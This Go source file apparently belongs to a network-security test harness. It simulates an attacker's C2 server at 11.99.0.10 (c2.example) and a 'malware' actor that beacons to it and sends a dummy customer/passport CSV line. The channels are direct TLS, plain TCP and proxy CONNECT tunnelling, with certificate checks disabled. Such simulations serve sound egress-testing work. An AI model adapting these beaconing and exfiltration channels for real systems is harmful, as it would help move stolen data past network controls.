package network

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/big"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// ActorCommand is the hidden command that Actor is.
const ActorCommand = "demo-actor"

// attacker is the address of the attacker's server (11.0.0.0/8 belongs to
// others, but the network of the story ends at its last machine).
const attacker = "11.99.0.10"

// Actor is a process of somebody in the story, because each lives on a machine
// of its own. It answers each line of its input with a line of JSON, and ends
// with it. Args are "outside", for the attacker's server, or "malware" and ways
// out.
func Actor(args []string, in io.Reader, out io.Writer) error {
	if len(args) > 1 && args[0] == "malware" {
		m := &malware{ways: args[1:], live: map[string]net.Conn{}}
		return answerLines(in, out, m.told)
	}
	if len(args) == 1 && args[0] == "outside" {
		s := &outside{seen: map[string]int{}}
		if err := s.open(); err != nil {
			return err
		}
		return answerLines(in, out, func(string) map[string]int { return s.counts() })
	}
	return fmt.Errorf("there is no actor %q", args)
}

// answerLines answers every line of the input with a line of JSON.
func answerLines(in io.Reader, out io.Writer, answer func(line string) map[string]int) error {
	lines, to := bufio.NewScanner(in), json.NewEncoder(out)
	for lines.Scan() {
		if err := to.Encode(answer(lines.Text())); err != nil {
			return err
		}
	}
	return lines.Err()
}

// outside is the attacker's server: it counts what it is sent by the address it
// comes from, over TLS on 443 and in clear on 8443, and sends every line back. On
// 8081 it says where somebody comes from, as a canary does. What it starts ends
// with the process.
type outside struct {
	mu   sync.Mutex
	seen map[string]int // "beacon 11.0.1.1", "csv 11.0.1.1"
}

func (s *outside) open() error {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return err
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), DNSNames: []string{"c2.example"}, NotAfter: time.Now().Add(24 * time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		return err
	}
	plain, err := net.Listen("tcp", ":8443")
	if err != nil {
		return err
	}
	secret, err := tls.Listen("tcp", ":443", &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}})
	if err != nil {
		return err
	}
	canary, err := net.Listen("tcp", ":8081")
	if err != nil {
		return err
	}
	server := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host, _, _ := net.SplitHostPort(r.RemoteAddr)
		fmt.Fprintln(w, host)
	})}
	go func() { _ = server.Serve(canary) }()
	go s.serve(plain)
	go s.serve(secret)
	return nil
}

func (s *outside) counts() map[string]int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return maps.Clone(s.seen)
}

func (s *outside) serve(l net.Listener) {
	for {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		go s.echo(conn)
	}
}

func (s *outside) echo(conn net.Conn) {
	defer conn.Close()
	from, _, _ := net.SplitHostPort(conn.RemoteAddr().String())
	in := bufio.NewScanner(conn)
	for in.Scan() {
		what, _, _ := strings.Cut(in.Text(), ",")
		s.mu.Lock()
		s.seen[what+" "+from]++
		s.mu.Unlock()
		if _, err := fmt.Fprintln(conn, in.Text()); err != nil {
			return
		}
	}
}

// malware is what the attacker has put on a machine. Its ways out are
// proxy:HOST:PORT, direct (TLS to the attacker's address) or plain (another
// port, without TLS). It is told:
//
//	open     open a session over each way            answers with those that stand
//	beacon   say something in each and wait for echo answers with those that live
//	csv      send the file: in a session that lives, else over a new one
type malware struct {
	ways []string
	live map[string]net.Conn
}

// says are the lines that it sends for what it is told.
var says = map[string]string{"open": "beacon,", "beacon": "beacon,", "csv": "csv,customer,surname,passport"}

func (m *malware) told(what string) map[string]int {
	out := map[string]int{}
	for _, way := range m.ways {
		if m.do(what, way) {
			out[way] = 1
		}
	}
	return out
}

func (m *malware) do(what, way string) bool {
	conn := m.live[way]
	if conn == nil && what != "beacon" {
		var err error
		if conn, err = dialOut(way); err != nil {
			return false
		}
		m.live[way] = conn
	}
	if conn == nil {
		return false
	}
	line := says[what]
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := fmt.Fprintln(conn, line); err == nil {
		if _, err := io.ReadFull(conn, make([]byte, len(line)+1)); err == nil {
			return true
		}
	}
	_ = conn.Close()
	delete(m.live, way)
	return false
}

func dialOut(way string) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	to, viaProxy := strings.CutPrefix(way, "proxy:")
	switch {
	case way == "plain":
		return d.Dial("tcp", attacker+":8443")
	case !viaProxy:
		to = attacker + ":443"
	}
	conn, err := d.Dial("tcp", to)
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if viaProxy {
		err = askProxy(conn)
	}
	if err == nil {
		secret := tls.Client(conn, &tls.Config{ServerName: "c2.example", InsecureSkipVerify: true}) // malware does not care
		if err = secret.Handshake(); err == nil {
			return secret, nil
		}
	}
	return nil, errors.Join(err, conn.Close())
}

// askProxy has a proxy connect to the attacker by name.
func askProxy(conn net.Conn) error {
	if _, err := fmt.Fprint(conn, "CONNECT c2.example:443 HTTP/1.1\r\nHost: c2.example:443\r\n\r\n"); err != nil {
		return err
	}
	var head [1024]byte
	n, err := conn.Read(head[:])
	if err == nil && !strings.HasPrefix(string(head[:n]), "HTTP/1.1 200 ") {
		err = fmt.Errorf("the proxy says %.12q", head[:n])
	}
	return err
}
